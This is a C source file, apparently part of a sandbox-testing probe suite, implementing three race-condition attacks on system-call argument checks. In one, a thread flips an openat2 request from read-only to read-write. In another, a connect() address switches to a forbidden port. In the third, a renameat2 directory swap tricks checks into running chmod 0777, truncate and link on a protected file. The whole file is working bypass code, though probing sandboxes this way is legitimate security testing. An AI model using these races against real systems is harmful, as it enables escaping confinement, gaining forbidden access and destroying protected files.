/* Between the look and the act: memory and names that another thread or process changes all the time. The last argument is the number
 * of rounds, which end with the first success: any effect on what is protected. */
#define _GNU_SOURCE
#include "probe.h"
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>

/* What is flipped: size bytes at place, between two values. */
static struct {
	char *place, *one, *other;
	size_t size;
	atomic_int on;
} flip;

static void *flip_all_the_time(void *unused) {
	(void)unused;
	while (atomic_load_explicit(&flip.on, memory_order_relaxed)) {
		memcpy(flip.place, flip.other, flip.size);
		memcpy(flip.place, flip.one, flip.size);
	}
	return NULL;
}

static int start_flipping(pthread_t *thread, void *place, void *one, void *other, size_t size) {
	flip.place = place;
	flip.one = one;
	flip.other = other;
	flip.size = size;
	memcpy(place, one, size);
	atomic_store(&flip.on, 1);
	return pthread_create(thread, NULL, flip_all_the_time, NULL);
}

static int stop_flipping(pthread_t thread, long successes) {
	atomic_store(&flip.on, 0);
	pthread_join(thread, NULL);
	printf("%ld\n", successes);
	return successes > 0 ? 0 : EACCES;
}

/* argv: a file that may be read, not written; rounds. The structure of openat2 asks for both, in turn. */
static int by_how_race(char **argv) {
	static struct open_how how, reading = {.flags = O_RDONLY}, writing = {.flags = O_RDWR | O_APPEND};
	pthread_t thread;
	long written = 0;
	if (start_flipping(&thread, &how, &reading, &writing, sizeof how) != 0)
		return EAGAIN;
	for (long i = atol(argv[1]); i > 0 && written == 0; i--) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, argv[0], &how, sizeof how);
		written += fd >= 0 && (fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDWR;
		if (fd >= 0)
			close(fd);
	}
	return stop_flipping(thread, written);
}

/* argv: port of a service that may not be reached; rounds. The address is the run's own listener, or that. */
static int by_address_race(char **argv) {
	struct sockaddr_in own = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t length = sizeof own;
	int listener = socket(AF_INET, SOCK_STREAM, 0);
	if (bind(listener, (struct sockaddr *)&own, sizeof own) != 0 || listen(listener, 4096) != 0 ||
	    getsockname(listener, (struct sockaddr *)&own, &length) != 0)
		return errno;
	struct sockaddr_in other = own;
	static struct sockaddr_in address;
	pthread_t thread;
	long reached = 0;
	other.sin_port = htons((uint16_t)atoi(argv[0]));
	if (start_flipping(&thread, &address, &own, &other, sizeof address) != 0)
		return EAGAIN;
	for (long i = atol(argv[1]); i > 0 && reached == 0; i--) {
		const struct linger abort_it = {.l_onoff = 1};
		struct sockaddr_in peer;
		length = sizeof peer;
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &abort_it, sizeof abort_it);
		if (syscall(SYS_connect, fd, &address, sizeof address) == 0) {
			reached += getpeername(fd, (struct sockaddr *)&peer, &length) == 0 && peer.sin_port == other.sin_port;
			int accepted = peer.sin_port == own.sin_port ? accept4(listener, NULL, NULL, SOCK_NONBLOCK) : -1;
			if (accepted >= 0)
				close(accepted);
		}
		close(fd);
	}
	return stop_flipping(thread, reached);
}

static pid_t start_swapping(const char *one, const char *other) {
	pid_t swapper = fork();
	if (swapper == 0)
		for (;;)
			syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
	return swapper;
}

/* Whether the protected file, found under either name of its directory, is another than before. */
static int is_changed(char *const directory[2], const char *file, const struct stat *before) {
	char name[4096];
	struct stat after;
	int changed = 0;
	for (int i = 0; i < 2; i++) {
		snprintf(name, sizeof name, "%s/%s", directory[i], file);
		changed += stat(name, &after) == 0 && after.st_ino == before->st_ino &&
			   (after.st_mode != before->st_mode || after.st_size != before->st_size || after.st_nlink != before->st_nlink);
	}
	return changed;
}

/* argv: a directory of one's own; a link that leads to the protected one; a file of both; rounds. The first two change places. */
static int by_directory_race(char **argv) {
	char name[4096], made[4096];
	long done = 0;
	struct stat before;
	snprintf(made, sizeof made, "%s/%s", argv[1], argv[2]);
	if (stat(made, &before) != 0)
		return errno;
	snprintf(name, sizeof name, "%s/%s", argv[0], argv[2]);
	snprintf(made, sizeof made, "%s/made", argv[0]);
	pid_t swapper = start_swapping(argv[0], argv[1]);
	for (long i = atol(argv[3]); i > 0 && done == 0; i--) {
		int fd;
		if (i % 1024 == 0)
			done = is_changed(argv, argv[2], &before);
		switch (i % 8) {
		case 0:
			fd = (int)syscall(SYS_openat, AT_FDCWD, made, O_CREAT | O_EXCL | O_WRONLY, 0600);
			if (fd >= 0)
				close(fd);
			break;
		case 2:
			syscall(SYS_mkdir, made, 0700);
			break;
		case 3:
			syscall(SYS_rmdir, made);
			break;
		case 4:
			syscall(SYS_link, name, made);
			break;
		case 6:
			syscall(SYS_chmod, name, 0777);
			break;
		case 7:
			syscall(SYS_truncate, name, 0L);
			break;
		default:
			syscall(SYS_unlink, made);
		}
	}
	kill(swapper, SIGKILL);
	waitpid(swapper, NULL, 0);
	done += is_changed(argv, argv[2], &before);
	printf("%ld\n", done);
	return done > 0 ? 0 : EACCES;
}

const struct technique race_techniques[] = {
	{"how-race", by_how_race, 2},
	{"address-race", by_address_race, 2},
	{"directory-race", by_directory_race, 4},
	{NULL, NULL, 0},
};
